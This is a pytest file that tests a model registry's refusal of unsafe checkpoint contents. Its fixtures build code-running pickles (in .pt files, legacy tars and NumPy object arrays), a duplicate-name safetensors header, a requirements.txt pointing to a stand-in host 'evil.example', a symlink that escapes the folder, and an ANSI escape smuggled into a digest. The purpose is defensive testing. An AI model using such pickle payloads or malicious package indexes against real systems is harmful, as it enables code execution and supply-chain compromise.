"""Weights and files in a checkpoint that are more than data: named and refused, beside ones that are taken."""

from __future__ import annotations

import io
import json
import pickle  # noqa: TID251 - to write what must not be read
import re
import tarfile
from pathlib import PurePath
from typing import TYPE_CHECKING, Any

import numpy as np
import pytest
import torch
from safetensors.torch import load_file, save_file

from scfm_lab.errors import ModelError
from scfm_registry import Registry, import_worker, importing

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path


class _Runs:
    def __init__(self, trap: Path) -> None:
        self.trap = trap

    def __reduce__(self) -> Any:
        return open, (str(self.trap), "w")


def _fallback(path: Path, trap: Path) -> None:
    """A pickle that the reader of tensors cannot read for another reason than code, and behind it code."""
    path.write_bytes(b"\x80\x02U\x01aQ." + pickle.dumps(_Runs(trap), 2))


def _old_tar(path: Path, trap: Path) -> None:
    """A checkpoint as torch wrote them before 2018: a tar of pickles."""
    with tarfile.open(path, "w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            content = pickle.dumps(_Runs(trap), 2)
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))


def _objects(path: Path, trap: Path) -> None:
    array = np.empty(1, dtype=object)
    array[0] = _Runs(trap)
    np.save(path, array, allow_pickle=True)


def _twice(path: Path, trap: Path) -> None:
    del trap
    one = b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"w":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}'
    path.write_bytes(len(one).to_bytes(8, "little") + one + bytes(8))


@pytest.mark.parametrize(
    ("name", "write", "words"),
    [
        ("model.pt", _fallback, r"holds _?io\.open, which is code and not data; nothing of it was run"),
        ("model.pt", _old_tar, r"is damaged or no torch checkpoint \(10,240 bytes; .* legacy \.tar format\)"),
        ("genes.npy", _objects, r"holds objects, or is no array of numbers"),
        ("model.safetensors", _twice, r"names something twice in its list of tensors"),
    ],
    ids=["5 another error before the code", "12 tar of old", "14 array of objects", "11 a name twice"],
)
def test_what_is_more_than_data_is_refused_by_the_locked_process(
    made_home: Path,
    basis: Callable[..., Path],
    tmp_path: Path,
    name: str,
    write: Callable[[Path, Path], None],
    words: str,
) -> None:
    del made_home
    registry, trap, folder = Registry(), tmp_path / "trap", basis(tmp_path / "checkpoint")
    write(folder / name, trap)
    trap.unlink(missing_ok=True)
    with pytest.raises(ModelError, match=rf"^{re.escape(str(folder / name))} {words}"):
        registry.import_checkpoint(folder, "mine", certify=False)
    assert not trap.exists()
    assert "mine" not in [item.name for item in registry.search(all_versions=True)]
    assert not list(registry.scratch.glob(".incoming-*"))


def test_their_like_without_harm_is_taken(made_home: Path, basis: Callable[..., Path], tmp_path: Path) -> None:
    del made_home
    registry, folder = Registry(), basis(tmp_path / "checkpoint")
    torch.save({"w": torch.ones(2)}, folder / "model.pt")
    np.save(folder / "genes.npy", np.arange(3))
    save_file({"w": torch.ones(1), "v": torch.ones(1)}, folder / "more.safetensors")
    (folder / "LICENSE").write_text("Permission is hereby granted")
    kept = registry.resolve(registry.import_checkpoint(folder, "mine", certify=False).reference).path
    assert {"model.pt.safetensors", "genes.npy", "more.safetensors", "LICENSE"} <= {
        path.name for path in kept.iterdir()
    }
    assert torch.equal(load_file(kept / "model.pt.safetensors")["w"], torch.ones(2))
    assert registry.load("mine", device="cpu").spec.width == 8


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("MLmodel", "not taken into the registry"),
        ("code/torch.py", "not taken into the registry"),
        ("setup.sh", "not taken"),
    ],
    ids=["25 MLmodel with a loader", "26 code beside the weights", "a script"],
)
def test_files_that_name_or_hold_code_are_refused(
    made_home: Path, basis: Callable[..., Path], tmp_path: Path, name: str, words: str
) -> None:
    del made_home
    registry, folder = Registry(), basis(tmp_path / "checkpoint")
    (folder / name).parent.mkdir(exist_ok=True)
    (folder / name).write_text("loader_module: os")
    with pytest.raises(ModelError, match=words):
        registry.import_checkpoint(folder, "mine", certify=False)
    assert "mine" not in [item.name for item in registry.search(all_versions=True)]
    same = [path for path in registry.scratch.rglob(PurePath(name).name) if path.read_text() == "loader_module: os"]
    assert not same


def test_lists_of_packages_are_never_kept(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("--index-url https://evil.example\ngit+https://evil.example/x\n")
    (tmp_path / "config.json").write_text(json.dumps({}))
    wanted, left_out = importing.listing(tmp_path)
    assert ([str(path) for path in wanted], left_out) == (["config.json"], ["requirements.txt"])


def test_a_link_to_a_neighbour_of_the_same_beginning_leads_out(tmp_path: Path) -> None:
    (tmp_path / "ckpt").mkdir()
    (tmp_path / "ckpt-evil").mkdir()
    (tmp_path / "ckpt-evil" / "secret.json").write_text("{}")
    (tmp_path / "ckpt" / "config.json").symlink_to(tmp_path / "ckpt-evil" / "secret.json")
    with pytest.raises(ModelError, match="leads out of the folder"):
        importing.listing(tmp_path / "ckpt")


@pytest.mark.parametrize("digest", ["sha256:" + "a" * 63, "sha256:" + "a" * 64 + "\n", "\x1b[2J", "starter/1"])
def test_a_record_names_its_parent_by_a_digest_or_by_nothing(tmp_path: Path, digest: str) -> None:
    with pytest.raises(ModelError, match=r"finetuning\.json names what it was made from by no digest"):
        import_worker.parent_digest({"parent": {"digest": digest}}, tmp_path)
    true = "sha256:" + "a" * 64
    assert import_worker.parent_digest({"parent": {"digest": true}}, tmp_path) == true
